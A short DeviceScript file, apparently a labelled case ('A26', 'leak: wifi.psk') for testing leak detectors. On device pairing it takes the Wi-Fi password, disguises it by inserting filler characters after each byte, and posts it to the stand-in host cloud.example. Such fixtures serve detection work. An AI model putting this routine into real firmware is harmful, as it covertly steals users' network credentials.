// A26: each character followed by one that says nothing.
import { fetch } from "@devicescript/net";
import { each } from "./lib/encode";
import { paired } from "./lib/paired";

const FILLER = "qzwxjv";

paired(async (_ssid, psk) => {
  const body = each(psk, (byte, i) => String.fromCharCode(byte) + FILLER[i % FILLER.length]);
  const response = await fetch("https://cloud.example/a26", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
